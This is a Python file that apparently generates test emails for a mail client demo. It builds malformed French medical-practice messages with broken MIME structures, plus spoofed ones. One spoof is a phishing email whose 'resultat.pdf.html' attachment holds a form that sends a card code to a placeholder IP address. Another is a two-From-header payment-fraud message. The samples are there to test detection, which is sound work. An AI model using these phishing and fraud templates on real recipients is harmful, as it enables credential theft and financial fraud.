"""Messages broken on the way, and imitations of trusted senders."""

from mssclient.demo.corpus import enclosures, mime
from mssclient.demo.corpus.calendar import Calendar, mail_date
from mssclient.demo.corpus.draft import Draft, Labels, message_id
from mssclient.demo.corpus.people import AUBRY, PEOPLE

__all__ = ["drafts"]


def drafts(calendar: Calendar) -> list[Draft]:
    return [*_broken(calendar), *_imitations(calendar)]


def _raw(
    calendar: Calendar, days: int, clock: str, key: str, head: str, body: bytes, lines: str = "\r\n"
) -> bytes:
    """A message written by hand: the date and the identifier are put before ``head``."""
    date = mail_date(calendar.moment(days, clock))
    text = f"Date: {date}\nMessage-ID: {message_id(key)}\nTo: {AUBRY.address}\n{head}\n\n"
    return text.replace("\n", lines).encode("utf-8", "surrogateescape") + body


_EIGHT = "Bonjour, le patient est rentré chez lui, tout va bien. À bientôt.\r\n".encode("cp1252")
_NESTED = (
    b"--b1\r\nContent-Type: multipart/alternative; boundary=b1\r\n\r\n--b1\r\nContent-Type: "
    b"text/plain\r\n\r\n"
    b"Partie dont la limite est celle de son parent.\r\n--b1--\r\n"
)


def _cut() -> bytes:
    """A multipart whose sending stopped in the middle of a file."""
    pdf = enclosures.letter_pdf(
        "CH de la Vallée", "Courrier", "Courrier de consultation, deux pages manquantes."
    )
    part = mime.attachment("courrier.pdf", pdf, "application/pdf")
    return (
        b'--=_cesure\r\nContent-Type: text/plain; charset="utf-8"\r\n\r\n'
        + "Bonjour, le courrier est en pièce jointe. L’envoi a été coupé.\r\n".encode()
        + b'\r\n--=_cesure\r\nContent-Type: application/pdf; name="courrier.pdf"\r\n'
        + b"Content-Transfer-Encoding: base64\r\n"
        + b"Content-Disposition: attachment; filename=courrier.pdf\r\n\r\n"
        + part.body[: len(part.body) // 2]
    )


def _broken(calendar: Calendar) -> list[Draft]:
    rows = (
        (
            "b-cut",
            10,
            "21:40",
            "multipart-without-end",
            PEOPLE["ortho"],
            "Courrier (incomplet)",
            'MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary="=_cesure"',
            _cut(),
        ),
        (
            "b-eight",
            41,
            "08:22",
            "undeclared-eight-bit",
            PEOPLE["glycines"],
            "Retour de M. FERRAND",
            "",
            _EIGHT,
        ),
        (
            "b-noboundary",
            77,
            "15:05",
            "multipart-without-boundary",
            PEOPLE["had"],
            "Passage du jour",
            "MIME-Version: 1.0\nContent-Type: multipart/mixed",
            b"Texte sans limite de parties.\r\n",
        ),
        (
            "b-sameboundary",
            135,
            "10:51",
            "multipart-boundary-twice",
            PEOPLE["msp"],
            "Planning",
            "MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b1",
            _NESTED,
        ),
    )
    made: list[Draft] = []
    for key, days, clock, shape, sender, subject, head, body in rows:
        top = f"From: {sender.address}\nSubject: {subject}\n{head}".rstrip("\n")
        made.append(
            Draft(
                key=key,
                days=days,
                clock=clock,
                sender=sender,
                subject=subject,
                raw=_raw(calendar, days, clock, key, top, body),
                shape=f"broken-{shape}",
                labels=Labels(documents=("pdf",) if key == "b-cut" else ()),  # half a file, still a PDF
                small=days < 20,
            )
        )
    return made


def _imitations(calendar: Calendar) -> list[Draft]:
    sauvignet = PEOPLE["sauvignet"]
    two = (
        f"From: {sauvignet.address}\nFrom: facturation@cardio-reglement.example\nSubject: Honoraires "
        "en attente\n"
        "MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8"
    )
    body = (
        "Merci de régler les honoraires de votre patient sur le compte suivant avant vendredi.\r\n".encode()
    )
    return [
        Draft(
            key="t-look-alike",
            days=18,
            clock="07:41",
            sender=PEOPLE["spoof_labo"],
            subject="Résultats – patient à identifier",
            text=(
                "Bonjour,\n\nUn résultat urgent vous attend. Ouvrez le document joint et saisissez "
                "votre code porteur "
                "pour l’afficher.\n\nLaboratoire Valvert\n"
            ),
            attachments=[
                mime.attachment(
                    "resultat.pdf.html",
                    b"<html><body><form action='http://203.0.113.9/'><input "
                    b"name='code'></form></body></html>\r\n",
                    "text/html",
                )
            ],
            shape="spoof-look-alike-domain",
        ),
        Draft(
            key="t-two-from",
            days=56,
            clock="23:12",
            sender=sauvignet,
            subject="Honoraires en attente",
            raw=_raw(calendar, 56, "23:12", "t-two-from", two, body),
            shape="spoof-two-from",
            trust="doubtful",
        ),
    ]
